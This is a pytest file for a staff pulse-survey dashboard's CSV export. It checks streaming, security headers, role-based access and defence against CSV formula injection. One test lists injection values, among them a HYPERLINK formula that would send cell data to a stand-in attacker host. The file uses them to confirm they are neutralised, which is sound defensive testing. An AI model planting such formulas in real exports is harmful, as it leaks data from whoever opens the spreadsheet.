"""The pulse CSV download is sent as it is written (chunked, the figures first) and is exactly
what `staffvoice report round` writes for the groups the person may see: only through the
anonymity engine, with the page's security headers."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest

from bot.core import Core
from bot.reports import service as reports
from bot.reports.export import csv_chunks, export_round
from staffvoice.web.site import CSP
from tests.conftest import MONDAY_10
from tests.test_reports_seed import emails, everyone_answers, seed_round
from tests.web.server import Server, serve_dashboard
from tests.web.test_signin import _client, _oidc

LEADER = "director@northbridge.example"
TEAM_LEAD = "lead.assessment@northbridge.example"
PRACTITIONER = "practitioner1@northbridge.example"


@pytest.fixture
async def server(loaded: Core) -> AsyncIterator[Server]:
    everyone = await emails(loaded)
    await seed_round(loaded, MONDAY_10, everyone_answers(everyone, comments=len(everyone)))
    async with serve_dashboard(loaded) as running:
        yield running


async def _download(server: Server, email: str) -> tuple[int, dict[str, str], str]:
    server.oidc.sign_in_as(email)
    async with _client(server) as http:
        assert (await _oidc(http, server)).status == 303
        resp = await http.get(f"{server.url}/app/pulse/export.csv")
        return resp.status, dict(resp.headers), await resp.text()


async def test_a_leader_downloads_every_group_streamed_as_the_command_line_writes_it(server: Server) -> None:
    status, headers, text = await _download(server, LEADER)
    assert status == 200
    assert headers["Transfer-Encoding"] == "chunked"  # sent as written, not built whole first
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == 'attachment; filename="pulse-round-1.csv"'
    assert headers["Content-Security-Policy"] == CSP
    assert headers["Cache-Control"] == "no-store" and headers["X-Content-Type-Options"] == "nosniff"
    async with server.core.db.session() as s:
        info = await reports.latest_closed_round(s)
        assert info is not None
        assert text.replace("\r\n", "\n") == (await export_round(s, info.id, "csv")).replace("\r\n", "\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["round", "group", "label", "question_id", "question", "measure", "value"]
    assert {r[1] for r in rows[1:]} >= {"all", "team:assessment", "team:front-door"}
    assert any(r[5] == "comment" and r[6].startswith("Comment number") for r in rows)


async def test_a_team_lead_downloads_only_their_team_and_the_whole(server: Server) -> None:
    status, _, text = await _download(server, TEAM_LEAD)
    assert status == 200
    assert {r[1] for r in csv.reader(io.StringIO(text))} - {"group"} == {"all", "team:assessment"}


async def test_a_practitioner_is_refused_the_download(server: Server) -> None:
    status, headers, text = await _download(server, PRACTITIONER)
    assert status == 403
    assert headers["Content-Type"].startswith("text/html") and "You cannot see this page" in text


async def test_the_pieces_join_to_the_whole_and_the_first_comes_before_the_comments(server: Server) -> None:
    async with server.core.db.session() as s:
        info = await reports.latest_closed_round(s)
        assert info is not None
        whole = await export_round(s, info.id, "csv")
    pieces = [c async for c in csv_chunks(server.core.db, info.id, size=200)]
    assert "".join(pieces) == whole
    assert len(pieces) > 3 and "comment" not in pieces[0]


async def test_a_slow_download_holds_no_database_connection_once_the_comments_are_read(server: Server) -> None:
    db = server.core.db
    async with db.session() as s:
        info = await reports.latest_closed_round(s)
        assert info is not None
    pieces = csv_chunks(db, info.id, size=200)
    assert "comment" not in await anext(pieces)  # the header: no comment read yet
    await anext(pieces)  # the comments are read for this one
    assert db.engine.pool.checkedout() == 0  # a reader that stops here holds nothing
    rest = [p async for p in pieces]
    assert any("comment" in p for p in rest)


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"more")', "+1 more staff please", "-2 for the rota",
            "@SUM(A1:A9)"]


async def test_a_comment_a_spreadsheet_would_run_is_downloaded_as_text(loaded: Core) -> None:
    """A pulse comment that starts like a formula reaches the change team's spreadsheet as text
    (prefixed with an apostrophe, OWASP's CSV injection advice), in the download and in what
    `staffvoice report round` writes; figures, negative ones included, stay numbers."""
    everyone = await emails(loaded)
    answers = everyone_answers(everyone, comments=len(everyone))
    for person, formula in zip(everyone, FORMULAS, strict=False):
        answers[person]["comment"] = formula
    await seed_round(loaded, MONDAY_10, answers)
    async with serve_dashboard(loaded) as server:
        status, _, text = await _download(server, LEADER)
    assert status == 200
    rows = list(csv.reader(io.StringIO(text)))
    comments = [r[6] for r in rows if r[1] == "all" and r[5] == "comment"]
    assert sorted(c for c in comments if c.startswith("'")) == sorted("'" + f for f in FORMULAS)
    assert not [c for c in comments if c.startswith(("=", "+", "-", "@", "\t"))]
    assert all(not r[6].startswith("'") for r in rows if r[5] != "comment")
    async with loaded.db.session() as s:
        info = await reports.latest_closed_round(s)
        assert info is not None
        assert text.replace("\r\n", "\n") == (await export_round(s, info.id, "csv")).replace("\r\n", "\n")
